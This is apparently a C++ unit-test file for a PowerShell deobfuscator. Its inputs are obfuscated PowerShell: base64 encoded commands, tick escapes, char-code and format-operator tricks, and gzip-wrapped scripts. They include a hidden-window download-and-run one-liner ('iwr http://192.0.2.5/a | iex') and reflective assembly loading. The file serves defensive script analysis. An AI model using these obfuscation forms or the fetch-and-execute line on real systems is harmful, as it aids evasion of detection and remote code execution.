// Each PowerShell decoder on its own: what it undoes, the layer it reports, and what it leaves
// alone.
#include <gtest/gtest.h>
#include <zlib.h>

#include "peel.hpp"
#include "script_analysis/base64.hpp"

namespace script_analysis {
namespace {

using testing::peel;
constexpr Language kPs = Language::PowerShell;

std::string utf16le(std::string_view ascii) {
  std::string out;
  for (char c : ascii) {
    out.push_back(c);
    out.push_back('\0');
  }
  return out;
}

std::string compress(std::string_view data, int window_bits) {
  z_stream stream{};
  deflateInit2(&stream, 9, Z_DEFLATED, window_bits, 9, Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&stream, data.size()) + 32, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  stream.avail_in = static_cast<uInt>(data.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

TEST(EncodedCommand, EveryAbbreviationPowerShellAccepts) {
  const std::string encoded = encode_base64(utf16le("Write-Host pwned"));
  for (std::string flag : {"-e", "-en", "-enc", "-EncodedCommand", "-ec", "/enc", "-ENC",
                           "\xE2\x80\x93"
                           "enc"}) {
    auto peeled = peel("powershell.exe -nop " + flag + " " + encoded);
    EXPECT_EQ(peeled.final_text, "Write-Host pwned") << flag;
    EXPECT_TRUE(peeled.undid("encoded_command")) << flag;
  }
}

TEST(EncodedCommand, TheInvocationIsReplacedInItsLine) {
  const std::string encoded = encode_base64(utf16le("Get-Date"));
  auto peeled = peel(
      "@echo off\r\nstart /b C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
      "powershell.exe -w hidden -enc \"" +
      encoded + "\"\r\nexit");
  EXPECT_EQ(peeled.final_text, "@echo off\r\nstart /b Get-Date\r\nexit");
}

TEST(EncodedCommand, LeavesArgumentsThatAreNotUtf16Text) {
  EXPECT_FALSE(peel("grep -e " + encode_base64("plain ascii text here")).undid("encoded_command"));
  EXPECT_FALSE(peel("powershell -ExecutionPolicy Bypass -File x.ps1").undid("encoded_command"));
}

TEST(PowerShellCommand, TheScriptOfACommandLineBecomesCode) {
  auto peeled = peel("powershell.exe -NoP -W Hidden -Command \"Write-Host \\\"hi\\\"\"");
  EXPECT_EQ(peeled.final_text, "Write-Host \"hi\"");
  EXPECT_TRUE(peeled.undid("powershell_command"));
  EXPECT_EQ(peel("cmd /c \"powershell -ep bypass -c iwr http://192.0.2.5/a | iex\"").final_text,
            "cmd /c iwr http://192.0.2.5/a | iex");
  // Concatenations inside the command line's quotes fold once it is code.
  EXPECT_EQ(peel("pwsh -c \"Write-Host ('a'+'b')\"").final_text, "Write-Host ('ab')");
  // Not an invocation: the word inside a string, or a script run from a file.
  EXPECT_FALSE(peel("Write-Host \"powershell is great\"").undid("powershell_command"));
  EXPECT_FALSE(peel("powershell -ExecutionPolicy Bypass -File x.ps1").undid("powershell_command"));
}

TEST(Ticks, RemovedInsideWordsButNotFromEscapesOrSingleQuotes) {
  auto peeled = peel("I`E`X \"Do`wnl`oad`n\" 'It`s'", kPs);
  EXPECT_EQ(peeled.final_text, "IEX \"Download`n\" 'It`s'");
  EXPECT_TRUE(peeled.undid("tick_escapes"));
}

TEST(CharCodes, CastsBecomeLiteralsAndConcatenationsFold) {
  auto peeled = peel("& ([char]105+[char]0x65+[char](120)) $x", kPs);
  EXPECT_EQ(peeled.final_text, "iex $x");
  EXPECT_TRUE(peeled.undid("char_codes"));
  EXPECT_TRUE(peeled.undid("string_concatenation"));
}

TEST(JoinOperator, EveryListForm) {
  EXPECT_EQ(peel("$a = -join [char[]](73,69,88)", kPs).final_text, "$a = 'IEX'");
  EXPECT_EQ(peel("$a = [char[]](73,69,88) -join ''", kPs).final_text, "$a = 'IEX'");
  EXPECT_EQ(peel("$a = (73,69,88 | %{[char]$_}) -join ''", kPs).final_text, "$a = 'IEX'");
  EXPECT_EQ(
      peel("$a = -join ('73,69,88'.Split(',') | ForEach-Object {[char][int]$_})", kPs).final_text,
      "$a = 'IEX'");
  EXPECT_EQ(peel("$a = ('I','E','X') -join '-'", kPs).final_text, "$a = 'I-E-X'");
  EXPECT_EQ(peel("$a = [string]::Join('', [char[]](73,69,88))", kPs).final_text, "$a = 'IEX'");
}

TEST(Concatenation, FoldsConstantChainsOnly) {
  EXPECT_EQ(peel("$c = 'Invo'+\"ke-Ex\" + ('pres'+'sion')", kPs).final_text,
            "$c = 'Invoke-Expression'");
  // Precedence: a member access binds to the last piece, -f and ',' bind tighter than +.
  EXPECT_EQ(peel("$n = 'a' + 'bc'.Length", kPs).final_text, "$n = 'a' + 'bc'.Length");
  EXPECT_EQ(peel("$x = 'a','b'+'c'", kPs).final_text, "$x = 'a','b'+'c'");
  EXPECT_EQ(peel("$y = \"$env:TEMP\" + '\\x.exe'", kPs).final_text,
            "$y = \"$env:TEMP\" + '\\x.exe'");
}

TEST(FormatOperator, ReordersPieces) {
  auto peeled = peel("$f = (\"{2}{0}{1}\" -f 'ke-Exp','ression','Invo')", kPs);
  EXPECT_EQ(peeled.final_text, "$f = ('Invoke-Expression')");
  EXPECT_TRUE(peeled.undid("format_operator"));
  EXPECT_EQ(peel("$g = '{0}{{x}}' -f 42", kPs).final_text, "$g = '42{x}'");
  // Inside a subexpression, then concatenated and run.
  EXPECT_EQ(peel("IEX($(\"{0}{1}\" -f 'Write-','Host') + ' x')").final_text, "Write-Host x");
  // Alignment or format specifiers are not evaluated.
  EXPECT_EQ(peel("$h = '{0,5}' -f 'a'", kPs).final_text, "$h = '{0,5}' -f 'a'");
}

TEST(StringReplacement, PlainPatternsAndMethodChains) {
  EXPECT_EQ(peel("$u = 'hxxpZZ://x' -replace 'ZZ','' -replace 'xx','tt'", kPs).final_text,
            "$u = 'http://x'");
  EXPECT_EQ(peel("$u = 'D#o#w#n'.Replace('#','').ToLower()", kPs).final_text, "$u = 'down'");
  // A real regular expression is not evaluated.
  EXPECT_EQ(peel("$u = 'a1b2' -replace '\\d',''", kPs).final_text, "$u = 'a1b2' -replace '\\d',''");
}

TEST(AutomaticVariables, CharactersOfWellKnownValues) {
  EXPECT_EQ(peel(".($env:ComSpec[4,24,25]-join'') $c", kPs).final_text, "iex $c");
  EXPECT_EQ(peel("& ($ShellId[1]+$ShellId[13]+'x') $c", kPs).final_text, "iex $c");
  EXPECT_EQ(peel("& ($PSHome[4]+$PSHome[30]+'x') $c", kPs).final_text, "iex $c");
  EXPECT_EQ(peel("&($VerbosePreference.ToString()[1,3]+'x'-join'') $c", kPs).final_text, "iex $c");
}

TEST(VariableSubstitution, OnceAssignedConstantsOnly) {
  EXPECT_EQ(peel("$a='ie';$b='x';& ($a+$b) $c", kPs).final_text, "$a='ie';$b='x';iex $c");
  // Assigned twice, or by ++: left alone.
  EXPECT_EQ(peel("$a='x'; $a='y'; Write-Host $a", kPs).final_text, "$a='x'; $a='y'; Write-Host $a");
  EXPECT_EQ(peel("$i='1'; $i++; Write-Host $i", kPs).final_text, "$i='1'; $i++; Write-Host $i");
  // Inside double quotes the raw text is spliced in.
  EXPECT_EQ(peel("$h='198.51.100.1'; curl \"http://$h/x\"", kPs).final_text,
            "$h='198.51.100.1'; curl \"http://198.51.100.1/x\"");
}

TEST(Base64Calls, GetStringInUnicodeAndUtf8) {
  const std::string unicode = encode_base64(utf16le("Write-Host one"));
  EXPECT_EQ(peel("iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + unicode +
                     "')))",
                 kPs)
                .final_text,
            "Write-Host one");
  auto peeled = peel(
      "$s = [System.Text.Encoding]::UTF8.GetString([System.Convert]::"
      "FromBase64String(\"" +
          encode_base64("two") + "\"))",
      kPs);
  EXPECT_EQ(peeled.final_text, "$s = 'two'");
  EXPECT_TRUE(peeled.undid("base64_decoding"));
}

TEST(Base64Calls, GzipAndDeflateStreams) {
  const std::string script = "Write-Host 'from the stream'";
  const std::string gzip = encode_base64(compress(script, 16 + 15));
  auto peeled = peel(
      "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream]"
      "[Convert]::FromBase64String('" +
          gzip + "'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
      kPs);
  EXPECT_EQ(peeled.final_text, script);
  ASSERT_GE(peeled.layers.size(), 2u);
  EXPECT_EQ(peeled.layers[1].obfuscation, ObfuscationClass::Compression);

  const std::string deflate = encode_base64(compress(script, -15));
  auto deflated = peel("$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + deflate +
                           "'))\n$r = New-Object IO.StreamReader(New-Object "
                           "IO.Compression.DeflateStream($ms, [IO.Compression.CompressionMode]::"
                           "Decompress))",
                       kPs);
  EXPECT_NE(deflated.final_text.find("'Write-Host ''from the stream'''"), std::string::npos)
      << deflated.final_text;
}

TEST(Base64Calls, BinaryPayloadsStayEncoded) {
  const std::string pe = encode_base64(std::string("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff", 14));
  auto peeled = peel("[Reflection.Assembly]::Load([Convert]::FromBase64String('" + pe + "'))", kPs);
  EXPECT_FALSE(peeled.undid("base64_decoding"));
}

TEST(InvokeExpression, ConstantsRunAsCodeBecomeCode) {
  EXPECT_EQ(peel("iex 'Write-Host a'", kPs).final_text, "Write-Host a");
  EXPECT_EQ(peel("Invoke-Expression -Command (\"Write-Host b\")", kPs).final_text, "Write-Host b");
  EXPECT_EQ(peel("'Write-Host c' | iex", kPs).final_text, "Write-Host c");
  EXPECT_EQ(peel("& ([ScriptBlock]::Create('Write-Host d'))", kPs).final_text,
            "& ({ Write-Host d })");
  EXPECT_EQ(peel("&('New-Object') Net.WebClient", kPs).final_text, "New-Object Net.WebClient");
  // Not a constant: left for the behaviour rules.
  EXPECT_EQ(peel("iex $payload", kPs).final_text, "iex $payload");
}

TEST(CaseNormalisation, RandomCaseOnlyAndKnownNamesOnly) {
  auto peeled = peel("iNvOkE-eXpReSsIoN (nEw-ObJeCt SyStEm.NeT.wEbClIeNt)", kPs);
  EXPECT_EQ(peeled.final_text, "Invoke-Expression (New-Object System.Net.WebClient)");
  EXPECT_TRUE(peeled.undid("case_normalisation"));
  EXPECT_FALSE(peel("IEX (new-object net.webclient)", kPs).undid("case_normalisation"));
}

TEST(NestedBase64, WholeTextAndStringLiterals) {
  const std::string inner = "Write-Host 'innermost'";
  auto peeled = peel(encode_base64(encode_base64(inner)));
  EXPECT_EQ(peeled.final_text, inner);
  EXPECT_EQ(peeled.techniques, std::vector<std::string>{"nested_base64"});
  EXPECT_EQ(peeled.layers.size(), 3u);

  EXPECT_EQ(peel("$cmd = '" + encode_base64("Start-Process calc.exe") + "'", kPs).final_text,
            "$cmd = 'Start-Process calc.exe'");
  // Hex digests and plain words are not base64 payloads.
  const std::string hash =
      "$h = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'";
  EXPECT_EQ(peel(hash, kPs).final_text, hash);
}

TEST(Layers, EachLayerRecordsItsTechniqueAndLanguage) {
  const std::string stage = encode_base64(utf16le("I`E`X 'Write-Host x'"));
  auto peeled = peel("cmd /c powershell -enc " + stage, Language::Batch);
  ASSERT_EQ(peeled.layers.size(), 4u);
  EXPECT_EQ(peeled.layers[0].technique, "input");
  EXPECT_EQ(peeled.layers[0].language, Language::Batch);
  EXPECT_EQ(peeled.layers[1].technique, "encoded_command");
  EXPECT_EQ(peeled.layers[1].obfuscation, ObfuscationClass::Encoding);
  EXPECT_EQ(peeled.layers[2].technique, "tick_escapes");
  EXPECT_EQ(peeled.layers[3].technique, "invoke_expression_unwrap");
  EXPECT_EQ(peeled.final_text, "cmd /c Write-Host x");
}

}  // namespace
}  // namespace script_analysis
